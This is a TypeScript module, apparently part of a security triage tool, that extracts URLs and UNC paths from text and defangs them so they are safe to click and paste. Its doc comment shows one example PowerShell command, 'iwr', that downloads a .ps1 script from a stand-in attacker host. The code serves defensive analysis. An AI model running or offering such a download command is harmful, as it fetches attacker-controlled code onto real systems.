import type { TracedText } from './traced-text';

/** An address as found in a text. */
export interface FoundAddress {
  readonly kind: 'url' | 'unc';
  readonly text: string;
  readonly host: string;
  readonly start: number;
  readonly end: number;
}

const URL = /\b(?:https?|ftps?|sftp|ldaps?|wss?|ms-appinstaller:\?source=https?):\/{1,3}[^\s"'<>()|^`{},;]+/gi;
const UNC =
  /(?<!(?<![\w/-])[A-Za-z]:)(?<![\w.%)$}\\/?-])\\{2}(?:[.?]\\UNC\\)?([A-Za-z0-9_][\w.-]*(?:@[\w@]+)?)\\{1,2}[^\s"'<>|,;]+/gi;
/** Names of XML vocabularies, which nothing fetches. */
const VOCABULARY = /^https?:\/\/(?:schemas\.(?:microsoft|openxmlformats|xmlsoap|dmtf)\.(?:com|org)|www\.w3\.org)\//i;
const HOST = /^(?:\[[0-9a-f:.%]+\]?|[\w\u00a1-\uffff%][\w.\u00a1-\uffff%-]*)$/i;
/** So many addresses of one text are looked at. */
export const MOST_ADDRESSES = 200;

/**
 * The URLs and UNC paths of a text, without names of XML vocabularies.
 *
 * @param text - a text
 * @returns the first 200, in order
 */
export function addressesIn(text: string): FoundAddress[] {
  const found: FoundAddress[] = [];
  for (const [kind, pattern] of [
    ['url', URL],
    ['unc', UNC],
  ] as const) {
    for (const match of text.matchAll(pattern)) {
      if (found.length === MOST_ADDRESSES) break;
      const [whole] = match;
      if (kind === 'url' && VOCABULARY.test(whole)) continue;
      const host = kind === 'url' ? hostOfUrl(whole) : (match[1] ?? '');
      if (host !== '') found.push({ kind, text: whole, host, start: match.index, end: match.index + whole.length });
    }
  }
  return found.sort((one, other) => one.start - other.start);
}

function hostOfUrl(url: string): string {
  const from = url.indexOf(':/') + 1;
  const rest = url.slice(from).replace(/^\/+/, '');
  const authority = rest.slice(0, rest.search(/[/\\?#]|$/));
  const host = authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d+$/, '');
  return HOST.test(host) ? host : '';
}

/**
 * Makes the addresses of a text harmless to click and to paste: `http` becomes `hxxp`, the dots of a host `[.]`.
 *
 * @param text - any text
 * @returns the text with each URL and UNC path spelled so
 * @example
 * ```ts
 * import { defang } from 'lib/triage';
 * defang('iwr http://evil.example/a.ps1'); // 'iwr hxxp://evil[.]example/a.ps1'
 * ```
 */
export function defang(text: string): string {
  const parts: string[] = [];
  let copied = 0;
  for (const { kind, text: address, host, start, end } of addressesIn(text)) {
    if (start < copied) continue;
    const spelled = address.replace(host, () => host.replaceAll('.', '[.]'));
    parts.push(
      text.slice(copied, start),
      kind === 'url' ? spelled.replace(/^([a-z])tt/i, '$1xx').replace(/^ftp/i, 'fxp') : spelled,
    );
    copied = end;
  }
  return parts.join('') + text.slice(copied);
}

/**
 * A host as a sentence names it, so that nobody follows it by mistake.
 *
 * @param host - its name or address
 * @returns for example `evil[.]example`
 */
export function shownHost(host: string): string {
  return host.replaceAll('.', '[.]');
}

const PATH =
  /(?<![\w])(?:\\\\\?\\)?[A-Za-z]:[\\/][^"'<>|*?,;=\r\n]*|(?<!(?<![\w/-])[A-Za-z]:)(?<![\w.%)$}\\/?-])\\\\[A-Za-z0-9_][^"'<>|*?,;=\r\n]*/g;

/**
 * The first absolute path of an argument.
 *
 * @param argument - an argument without quotes
 * @returns the path; null where there is none
 */
export function pathIn(argument: TracedText): TracedText | null {
  for (const match of argument.text.slice(0, 4096).matchAll(PATH)) {
    return argument.slice(match.index, match.index + match[0].length).trim();
  }
  return null;
}
